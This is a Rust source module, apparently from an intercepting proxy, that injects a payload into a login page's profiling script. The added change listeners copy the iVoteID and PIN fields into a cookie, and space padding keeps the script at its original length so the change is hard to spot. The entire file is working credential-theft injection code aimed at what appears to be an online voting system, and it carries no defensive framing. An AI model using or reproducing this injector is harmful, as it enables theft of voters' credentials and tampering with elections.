//! Length-preserving rewrite of the login page's profiling script.

use crate::protocol::page::{self, ID_FIELD, PIN_FIELD, PROFILE_COOKIE};

use super::ProxyError;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectionPayload {
    original_script: String,
    modified_script: String,
}

impl InjectionPayload {
    pub fn new(original_script: &str, modified_script: &str) -> Result<Self, ProxyError> {
        if original_script.len() != modified_script.len() {
            return Err(ProxyError::PayloadLength {
                original: original_script.len(),
                modified: modified_script.len(),
            });
        }
        Ok(Self {
            original_script: original_script.to_owned(),
            modified_script: modified_script.to_owned(),
        })
    }

    /// Minifies `original`, appends change listeners on the iVoteID and PIN
    /// inputs that copy the values into the profiling cookie, and pads with
    /// spaces back to the original length.
    pub fn craft(original: &str) -> Result<Self, ProxyError> {
        let mut modified = page::minify(original);
        modified.push_str(&format!(
            "onchange(\"{ID_FIELD}\",leak(\"{PROFILE_COOKIE}\",\"id\"));onchange(\"{PIN_FIELD}\",leak(\"{PROFILE_COOKIE}\",\"pin\"));"
        ));
        if modified.len() > original.len() {
            return Err(ProxyError::PayloadLength {
                original: original.len(),
                modified: modified.len(),
            });
        }
        modified.push_str(&" ".repeat(original.len() - modified.len()));
        Self::new(original, &modified)
    }

    pub fn original_script(&self) -> &str {
        &self.original_script
    }

    pub fn modified_script(&self) -> &str {
        &self.modified_script
    }
}

/// Swaps the payload's script into a login page.
pub fn inject(page_response: &str, payload: &InjectionPayload) -> Result<String, ProxyError> {
    let range = page::script_range(page_response).ok_or(ProxyError::NotLoginPage)?;
    if &page_response[range.clone()] != payload.original_script() {
        return Err(ProxyError::NotLoginPage);
    }
    let mut out = String::with_capacity(page_response.len());
    out.push_str(&page_response[..range.start]);
    out.push_str(payload.modified_script());
    out.push_str(&page_response[range.end..]);
    Ok(out)
}
